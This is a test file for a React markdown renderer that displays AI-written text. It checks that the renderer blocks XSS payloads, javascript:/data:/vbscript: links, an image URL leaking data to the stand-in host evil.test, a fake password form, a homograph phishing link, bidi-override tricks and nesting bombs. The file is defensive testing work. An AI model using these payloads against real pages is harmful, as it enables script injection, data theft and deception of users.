import { render, waitFor } from "@testing-library/react";
import { expect, test } from "vitest";
import { FormattedMarkdown, LONGEST_FORMATTED } from "@/components/formatted-markdown";

const drawn = (text: string) => render(<FormattedMarkdown text={text} />).container;

const HIDDEN = /[\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069]/;

function expectInert(page: HTMLElement) {
  expect(
    page.querySelector("script, style, iframe, object, img, svg, form, input, link"),
  ).toBeNull();
  for (const node of page.querySelectorAll("*"))
    for (const { name, value } of node.attributes) {
      expect(name).not.toMatch(/^on|^src|^id$|^name$/);
      expect(value).not.toMatch(/javascript:|data:|vbscript:/i);
    }
}

test("formats what models write", () => {
  const page = drawn(
    "# Title\n\n- **one**\n- [x] two\n\n| a | b |\n| - | -: |\n| 1 | 2 |\n\n```py\nx\n```",
  );
  expect(page.querySelector("h3")).toHaveTextContent("Title");
  expect(page.querySelector("strong")).toHaveTextContent("one");
  expect(page).toHaveTextContent("☑ two");
  expect(page.querySelectorAll("td")).toHaveLength(2);
  expect(page.querySelector("pre code")).toHaveTextContent("x");
});

test.each([
  "<script>alert(1)</script>",
  "a <script>alert(1)</script> b",
  "<img src=x onerror=alert(1)>",
  "- <img src=x onerror=alert(1)>\n- <svg onload=alert(1)>",
  "<iframe src='https://evil.test'></iframe>",
  "<style>*{display:none}</style>",
  "<form action='https://evil.test'><input name=password></form>",
])("raw HTML is shown as its source: %s", (source) => {
  const page = drawn(source);
  expectInert(page);
  expect(page.textContent).toContain(source.match(/<\w+/)?.[0]);
});

test.each([
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "<javascript:alert(1)>",
  "[x][1]\n\n[1]: vbscript:alert(1)",
  "[x](//evil.test)",
  "[x](/jobs)",
])("a link that leads anywhere but over HTTP is text: %s", (source) => {
  const page = drawn(source);
  expectInert(page);
  expect(page.querySelector("a")).toBeNull();
});

test("a link shows where it leads, in letters that can't be mistaken", () => {
  const page = drawn("[your bank](https://аpple.com/login)");
  const link = page.querySelector("a");
  expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
  expect(link).toHaveAttribute("target", "_blank");
  expect(link).toHaveTextContent("your bank (https://xn--pple-43d.com/login)");
});

test("an address that is its own text isn't said twice", () => {
  expect(drawn("See https://example.com/a and <b@example.com>").textContent).toBe(
    "See https://example.com/a and b@example.com",
  );
});

test.each([
  ["![cat](https://evil.test/?q=secret)", "[image: cat] (https://evil.test/?q=secret)"],
  ["![](data:image/svg+xml,<svg/onload=alert(1)>)", "[image: no description] (data:image/svg"],
  ["![r][1]\n\n[1]: http://evil.test/a.png", "[image: r] (http://evil.test/a.png)"],
])("an image isn't loaded: %s", (source, shown) => {
  const page = drawn(source);
  expectInert(page);
  expect(page.textContent).toContain(shown);
});

test.each([
  "access \u202egranted\u202c",
  "\u2066a\u2069 \u200b zero \u2060 width",
  "by entity: &#x202E;gnp.exe &rlm;",
  "`code \u202e`",
  "```\nif (a) { \u202e /* \u2066\n```",
  "[a\u202eb](https://example.com/\u202egnp.exe)",
  "![\u202ecat](https://x.test)",
  "<b title='\u202e'>",
])("what reorders or hides text is made visible: %j", (source) => {
  const page = drawn(source);
  expect(page.textContent).not.toMatch(HIDDEN);
  expect(page.textContent).toMatch(/‹U\+20[0-6][0-9A-F]›|%E2%80%AE/);
});

test("each block has the direction of its own text", () => {
  const page = drawn("שלום\n\n- עולם\n\nhello");
  for (const block of page.querySelectorAll("p, li")) expect(block).toHaveAttribute("dir", "auto");
});

test.each([
  ">".repeat(3_000),
  "- ".repeat(1_500),
  "- > ".repeat(900),
  "1. * ".repeat(500),
  "*a _b ".repeat(300) + "_ *".repeat(300),
])("nesting without end is shown as its source: %.12s", (source) => {
  const page = drawn(`${source}x`);
  let depth = 0;
  for (let node = page.querySelector("*"); node; node = node.firstElementChild) depth += 1;
  expect(depth).toBeLessThan(50);
  expect(page.textContent).toContain("x");
});

test("a long text is drawn in steps, and whole in the end", async () => {
  const page = drawn(`${"some **words** here\n\n".repeat(1_000)}the end`);
  expect(page.textContent).not.toContain("the end");
  await waitFor(() => expect(page.textContent).toContain("the end"), { timeout: 10_000 });
  expect(page.querySelectorAll("strong")).toHaveLength(1_000);
});

test("a very long text is plain, whole and harmless", () => {
  const text = "**a** <b>\n".repeat(LONGEST_FORMATTED / 9);
  const page = drawn(text);
  expectInert(page);
  expect(page.querySelector("strong, b")).toBeNull();
  expect(page.textContent?.endsWith(text)).toBe(true);
});
